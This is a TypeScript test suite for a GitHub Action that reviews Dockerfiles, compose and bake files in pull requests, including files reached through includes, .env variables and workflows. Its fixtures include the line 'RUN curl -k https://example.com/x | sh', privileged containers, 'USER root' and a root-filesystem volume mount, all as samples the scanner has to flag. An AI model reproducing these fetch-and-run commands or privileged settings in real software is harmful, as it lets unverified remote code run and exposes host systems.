/** What a change does through files that other files name, whatever they are called: by the action on GitHub. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { Files } from './repository.ts';
import { type ActionRun, runAction } from './runner/action.ts';
import { GitHub, type Options } from './stand-in/server.ts';

interface Seen extends ActionRun {
  readonly requests: number;
  readonly trees: number;
  readonly comments: number;
}

async function reviewed(
  before: Files,
  after: Files,
  options: Options = {},
  inputs: Record<string, string> = {},
): Promise<Seen> {
  await using github = await GitHub.start(options);
  const from = github.repository.commit('main', { README: 'x\n', ...before });
  github.repository.commit('feature', after, 'Change', { from });
  const { number } = github.openPull({ head: 'feature' });
  const seen = await runAction({ github, pull: number, inputs, here: true });
  assert.deepEqual(github.violations, []);
  return {
    ...seen,
    requests: github.requests.length,
    trees: github.requested('GET /repos/{owner}/{repo}/git/trees/{tree_sha}').length,
    comments: github.requested('mutation addPullRequestReview').length,
  };
}

const good = 'FROM debian:12.1\nRUN useradd app\nUSER app\n';
const bad = `${good}RUN curl -k https://example.com/x | sh\nUSER root\n`;
const calm = 'services:\n  web:\n    image: example/web:1\n';
const open = `${calm}    privileged: true\n`;
const building = (dockerfile: string) =>
  `services:\n  web:\n    build:\n      context: .\n      dockerfile: ${dockerfile}\n`;
const workflow = (step: string) => `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - ${step}\n`;

describe('what a change introduces through a file that another names', () => {
  const cases: readonly [
    title: string,
    untouched: Files,
    path: string,
    before: string | undefined,
    bad: string,
    good: string,
  ][] = [
    ['a Dockerfile that compose builds', { 'compose.yaml': building('app.txt') }, 'app.txt', good, bad, `${good}# x\n`],
    [
      'one that is called like a program',
      { 'compose.yaml': building('build/app.py') },
      'build/app.py',
      good,
      bad,
      `${good}# x\n`,
    ],
    ['one that is new', { 'compose.yaml': building('app.txt') }, 'app.txt', undefined, bad, good],
    [
      'an included file',
      { 'compose.yaml': `include: [docker/prod.conf]\n${calm}` },
      'docker/prod.conf',
      calm.replace('web', 'db'),
      open.replace('web', 'db'),
      `${calm.replace('web', 'db')}# x\n`,
    ],
    [
      'a file that an included one includes',
      { 'compose.yaml': `include: [a.conf]\n${calm}`, 'a.conf': 'include: [b.conf]\n' },
      'b.conf',
      calm.replace('web', 'db'),
      open.replace('web', 'db'),
      `${calm.replace('web', 'db')}# x\n`,
    ],
    [
      'an extended file',
      { 'compose.yaml': 'services:\n  web:\n    extends: { file: base.inc, service: web }\n' },
      'base.inc',
      calm,
      open,
      `${calm}# x\n`,
    ],
    [
      'a switch',
      { 'compose.yaml': `${calm}    privileged: \${PRIVILEGED:-false}\n` },
      '.env',
      'PRIVILEGED=false\n',
      'PRIVILEGED=true\n',
      'PRIVILEGED=false\nA=1\n',
    ],
    [
      'a path',
      { 'compose.yaml': `${calm}    volumes: ["\${DATA:-./data}:/data"]\n` },
      '.env',
      'DATA=./data\n',
      'DATA=/\n',
      'DATA=./data\nA=1\n',
    ],
    [
      'the files of COMPOSE_FILE',
      { 'compose.yaml': calm, 'prod.conf': open },
      '.env',
      'A=1\n',
      'COMPOSE_FILE=prod.conf\n',
      'COMPOSE_FILE=compose.yaml\n',
    ],
    [
      'a file of COMPOSE_FILE',
      { '.env': 'COMPOSE_FILE=docker/prod.conf\n' },
      'docker/prod.conf',
      calm,
      open,
      `${calm}# x\n`,
    ],
    [
      "a workflow's `file`",
      {
        '.github/workflows/build.yml': workflow(
          'uses: docker/build-push-action@v6\n        with: { file: deploy/image.txt }',
        ),
      },
      'deploy/image.txt',
      good,
      bad,
      `${good}# x\n`,
    ],
    [
      "a workflow's command",
      { '.github/workflows/build.yml': workflow('run: docker build -t a -f deploy/image.txt .') },
      'deploy/image.txt',
      good,
      bad,
      `${good}# x\n`,
    ],
    [
      "a workflow's compose command",
      { '.github/workflows/build.yml': workflow('run: docker compose -f deploy/up.conf up -d') },
      'deploy/up.conf',
      calm,
      open,
      `${calm}# x\n`,
    ],
    [
      'bake in HCL',
      { 'docker-bake.hcl': 'target "a" {\n  dockerfile = "image.txt"\n}\n' },
      'image.txt',
      good,
      bad,
      `${good}# x\n`,
    ],
    [
      'bake in JSON',
      { 'docker-bake.json': '{"target":{"a":{"dockerfile":"image.txt"}}}' },
      'image.txt',
      good,
      bad,
      `${good}# x\n`,
    ],
  ];
  for (const [title, untouched, path, before, worse, harmless] of cases) {
    test(title, async () => {
      const base = { ...untouched, ...(before === undefined ? {} : { [path]: before }) };
      const failed = await reviewed(base, { [path]: worse });
      assert.deepEqual([failed.outputs.verdict, failed.exitCode], ['fail', 1], failed.summary);
      const passed = await reviewed(base, { [path]: harmless });
      assert.deepEqual([passed.outputs.verdict, passed.comments], ['pass', 0], passed.summary);
    });
  }
});

describe('an ordinary change', () => {
  const repository: Files = {
    Dockerfile: `FROM python:3.12\nCOPY . .\nUSER root\n`,
    'compose.yaml': 'services:\n  web:\n    build: .\n    privileged: true\n    env_file: web.env\n',
    'web.env': 'A=1\n',
    '.dockerignore': '.git\n.env\n',
    'deploy/values.yaml': 'services:\n  web:\n    replicas: 3\n',
    '.github/workflows/test.yml': workflow('run: make test'),
    'src/app.py': 'x = 1\n',
  };

  test('of code alone is silent, green and cheap, whatever stood before', async () => {
    const seen = await reviewed(repository, { 'src/app.py': 'x = 2\n', 'src/new.py': 'y = 1\n', 'docs/a.md': '# A\n' });
    assert.deepEqual([seen.outputs.verdict, seen.exitCode, seen.comments], ['pass', 0, 0]);
    assert.match(seen.summary, /No new findings/);
    assert.doesNotMatch(seen.summary, /There before|looks like|could not be/);
    assert.equal(seen.trees, 1);
    assert.deepEqual(seen.annotations, []);
    const changed = await reviewed(repository, { 'src/app.py': 'x = 2\n' }, {}, { scope: 'changed' });
    assert.equal(changed.trees, 0);
    // What there is, the container files, and the READMEs around them.
    assert.ok(seen.requests <= changed.requests + 3, `${changed.requests}, then ${seen.requests}`);
  });

  test('does not fail for old faults of what it only affects, whatever the gate', async () => {
    const all = await reviewed(repository, { 'src/app.py': 'x = 2\n' }, {}, { gate: 'all' });
    assert.equal(all.outputs.verdict, 'pass');
    const touching = await reviewed(
      repository,
      { Dockerfile: `${repository.Dockerfile}# x\n` },
      {},
      { gate: 'all', 'fail-on': 'medium' },
    );
    assert.equal(touching.outputs.verdict, 'fail');
  });

  test('beside a file that cannot be read is green, and says nothing of it', async () => {
    const seen = await reviewed({ ...repository, 'other/compose.yaml': 'services: [' }, { 'src/app.py': 'x = 2\n' });
    assert.equal(seen.outputs.verdict, 'pass');
    assert.doesNotMatch(seen.summary, /other\/compose/);
  });

  test('of Helm, Kubernetes, OpenAPI and CI files takes none for a container file', async () => {
    const seen = await reviewed(
      {},
      {
        'chart/templates/deploy.yaml': 'apiVersion: apps/v1\nkind: Deployment\nspec: {{ .Values.x }}\n',
        'chart/values.yaml': 'services:\n  web:\n    image: nginx\n    replicas: 2\n',
        'k8s/stack.yaml': 'apiVersion: v1\nkind: Service\n',
        'openapi.yaml': 'openapi: 3.0.0\npaths: {}\n',
        'config/services.yaml': 'services:\n  _defaults:\n    autowire: true\n',
        '.gitlab-ci.yml': 'services:\n  - docker:dind\n',
        Modelfile: 'FROM llama3\nPARAMETER temperature 1\n',
        'docker-entrypoint': '#!/bin/sh\nexec "$@"\n',
      },
    );
    assert.equal(seen.outputs.verdict, 'pass');
    assert.match(seen.summary, /No container files changed/);
    assert.doesNotMatch(seen.summary, /looks like/);
  });
});

describe('what nobody looked at', () => {
  test('is said', async () => {
    const seen = await reviewed({}, { 'notes.txt': bad });
    assert.equal(seen.outputs.verdict, 'pass');
    assert.match(seen.summary, /`notes\.txt` looks like a Dockerfile/);
  });

  test('is said once, and not of what tests compare with', async () => {
    const many = Object.fromEntries(Array.from({ length: 7 }, (_, i) => [`deploy/v${i}.conf`, open]));
    const seen = await reviewed({}, { ...many, 'tests/expected/a.txt': bad, 'tests/expected/b.txt': bad });
    assert.equal(seen.outputs.verdict, 'pass');
    assert.equal(seen.summary.match(/looks? like/g)?.length, 1);
    assert.match(seen.summary, /\b7 files look like container files/);
    assert.doesNotMatch(seen.summary, /expected/);
  });

  test('is said where a name alone makes it look like a container file, and it cannot be read', async () => {
    const seen = await reviewed({}, { 'data/stack_3d.raw': Buffer.alloc(1_200_000, 'x'), 'a/docker_model': '\0' });
    assert.equal(seen.outputs.verdict, 'pass');
    assert.match(seen.summary, /2 files look like container files/);
    // What names it knows that it is one.
    const named = await reviewed({ 'compose.yaml': building('docker_model') }, { docker_model: '\0' });
    assert.equal(named.outputs.verdict, 'error');
  });

  test('of a repository that cannot be listed whole is a remark', async () => {
    const many = Object.fromEntries(Array.from({ length: 8 }, (_, i) => [`x${i}/a`, 'x\n']));
    const seen = await reviewed(many, { 'src/app.py': '' }, { limits: { treeEntries: 4 } });
    assert.equal(seen.outputs.verdict, 'pass');
    assert.match(seen.summary, /more files than GitHub lists/);
    assert.equal(seen.trees, 1);
  });
});

describe('names', () => {
  for (const path of ['Dockerfile\udcff', 'a\udcff/Dockerfile', '\udcff.yml', 'docker\udce9'])
    test(`${JSON.stringify(path)}, which is not UTF-8, is not reviewed and does not pass`, async () => {
      const seen = await reviewed({}, { [path]: bad });
      assert.deepEqual([seen.outputs.verdict, seen.exitCode], ['error', 1], seen.summary);
      assert.match(seen.summary, /Its name is not valid/);
      assert.doesNotMatch(seen.summary, /No container files/);
    });
  test('that are not UTF-8, of what is no container file, are only said', async () => {
    const seen = await reviewed({}, { 'src/\udcff.py': 'x = 1\n' });
    assert.equal(seen.outputs.verdict, 'pass');
    assert.match(seen.summary, /was not reviewed/);
    const real = await reviewed({}, { 'src/\ufffd.dockerfile': good });
    assert.equal(real.outputs.verdict, 'pass', real.summary);
  });

  for (const path of ['DockerfileProd', 'Dockerfile2', 'image/app', 'Containerfile9'])
    test(`${path} is a Dockerfile`, async () => {
      assert.equal((await reviewed({}, { [path]: bad })).outputs.verdict, 'fail');
      assert.equal((await reviewed({}, { [path]: good })).outputs.verdict, 'pass');
    });
  for (const path of [
    'docker-compose2.yml',
    'Docker-Compose.yml',
    'compose.YML',
    'stack.yml',
    'deploy/prod.yaml',
    '.github/services/compose.yaml',
  ])
    test(`${path} is a compose file`, async () => {
      assert.equal((await reviewed({}, { [path]: open })).outputs.verdict, 'fail');
      assert.equal((await reviewed({}, { [path]: calm })).outputs.verdict, 'pass');
    });
  test('compose.json is a compose file', async () => {
    const file = (privileged: boolean) => JSON.stringify({ services: { a: { image: 'example/a:1', privileged } } });
    assert.equal((await reviewed({}, { 'compose.json': file(true) })).outputs.verdict, 'fail');
    assert.equal((await reviewed({}, { 'compose.json': file(false) })).outputs.verdict, 'pass');
  });

  const long = `${good}${Array.from({ length: 40 }, (_, i) => `RUN step ${i}\n`).join('')}`;
  for (const path of ['Dockerfile.txt', 'deploy.conf', 'web.py', 'docs/build.md'])
    test(`a Dockerfile that moves to ${path} stays under review`, async () => {
      const moved = (text: string): Files => ({ Dockerfile: null, [path]: text });
      assert.equal(
        (await reviewed({ Dockerfile: long }, moved(`${long}USER root\nRUN curl -k https://e.com/x | sh\n`))).outputs
          .verdict,
        'fail',
      );
      assert.equal(
        (await reviewed({ Dockerfile: `${long}USER root\n` }, moved(`${long}USER root\n# x\n`))).outputs.verdict,
        'pass',
      );
    });
  test('a compose file that moves to another name stays under review', async () => {
    const services = Array.from({ length: 20 }, (_, i) => `  s${i}:\n    image: example/s${i}:1\n`).join('');
    const file = `services:\n${services}`;
    const moved = (text: string): Files => ({ 'compose.yaml': null, 'ops/up.conf': text });
    assert.equal(
      (await reviewed({ 'compose.yaml': file }, moved(`${file}    privileged: true\n`))).outputs.verdict,
      'fail',
    );
    assert.equal((await reviewed({ 'compose.yaml': file }, moved(`${file}# x\n`))).outputs.verdict, 'pass');
  });
});
